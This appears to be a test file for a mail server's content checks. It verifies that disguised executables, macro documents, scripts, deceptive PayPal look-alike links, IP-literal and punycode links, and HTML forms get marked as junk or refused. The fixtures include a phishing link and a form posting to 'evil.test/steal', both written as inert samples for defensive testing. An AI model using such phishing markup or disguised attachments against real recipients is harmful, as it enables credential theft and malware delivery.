"""Content verdicts through the real server: dangerous attachments found by
their bytes whatever their names (a harmless PE header, a macro document,
an OOXML document with vbaProject.bin, a zip holding an executable),
deceptive, IP-literal and look-alike links, forms; record (junk, verdicts
stored) and enforce (554 5.7.1 at the end of DATA)."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage

from .defence_helpers import send, stored

# The first bytes of a Windows executable (DOS stub + PE signature); runs nothing.
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
PE += b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200
# An OLE2 compound file whose directory names a VBA project stream.
MACRO_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "_VBA_PROJECT".encode("utf-16-le")


def zipped(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def mail(html: str | None = None, attachment: tuple[str, bytes] | None = None) -> bytes:
    message = EmailMessage()
    message["From"] = "a@sender.test"
    message["To"] = "x@example.com"
    message["Subject"] = "Your documents"
    message.set_content("See the attachment.")
    if html is not None:
        message.add_alternative(html, subtype="html")
    if attachment is not None:
        name, data = attachment
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes().replace(b"\n", b"\r\n")


def test_dangerous_attachments_are_junk(make_server, database_url):
    server = make_server()  # CONTENT_CHECKS=record
    cases = [
        (("invoice.pdf", PE), "executable (application/x-msdownload)"),
        (("report.doc", MACRO_DOC), "Office document with macros"),
        (("report.docx", zipped("word/vbaProject.bin", b"x")), "Office document with macros"),
        (("photos.zip", zipped("photo.jpg", PE)), "archive holding executable"),
        (("notes.txt", b"#!/bin/sh\necho hello\n"), "script"),
        (("page.dat", b"<!DOCTYPE html><html><script>x()</script></html>"), "HTML"),
    ]
    for attachment, kind in cases:
        _, code, reply = send(server.port, data=mail(attachment=attachment))
        assert code == 250
        row = stored(database_url, reply)
        assert row["junk"] is True, attachment[0]
        found = row["verdicts"]["content"]["attachments"][0]
        assert found["filename"] == attachment[0] and found["kind"].startswith(kind), found
    _, _, reply = send(server.port, data=mail(attachment=("data.bin", b"\x89PNG\r\n\x1a\n")))
    assert stored(database_url, reply) == {"junk": False, "verdicts": None}


def test_links_and_forms(make_server, database_url):
    server = make_server()
    deceptive = (
        '<p><a href="https://paypal.com.evil.test/login">paypal.com</a> '
        '<a href="https://click.example.net/x">www.example.net</a>'  # same site: fine
        '<form action="https://evil.test/steal"><input name=p></form></p>'
    )
    _, _, reply = send(server.port, data=mail(html=deceptive))
    row = stored(database_url, reply)
    assert row["junk"] is True
    content = row["verdicts"]["content"]
    assert content["deceptive_links"] == ["paypal.com -> paypal.com.evil.test"]
    assert content["forms"] == ["a form in the HTML"]
    assert row["verdicts"]["reasons"] == ["content: suspicious: deceptive links, forms"]
    one_sign = '<a href="http://192.0.2.1/x">here</a> <a href="https://xn--pypal-4ve.com/">x</a>'
    _, _, reply = send(server.port, data=mail(html=one_sign))
    row = stored(database_url, reply)
    assert row["verdicts"]["content"]["ip_links"] == ["192.0.2.1"]
    assert row["verdicts"]["content"]["lookalike_links"] == ["xn--pypal-4ve.com"]
    assert row["junk"] is True  # two kinds
    _, _, reply = send(server.port, data=mail(html='<a href="http://192.0.2.1/x">here</a>'))
    assert stored(database_url, reply)["junk"] is False  # one sign alone: recorded only


def test_enforce_refuses_dangerous_attachments(make_server, database_url):
    server = make_server(content_checks="enforce")
    assert send(server.port, data=mail(attachment=("invoice.pdf", PE))) == (
        "DATA",
        554,
        b"5.7.1 Message refused: an attachment is executable",
    )
    server.wait_for_log(r"refused 127\.0\.0\.1: 554 5\.7\.1 at end of DATA")
    _, code, reply = send(server.port, data=mail(html='<a href="http://192.0.2.1/">x</a><form>'))
    assert code == 250 and stored(database_url, reply)["junk"] is True  # suspicious: junk only
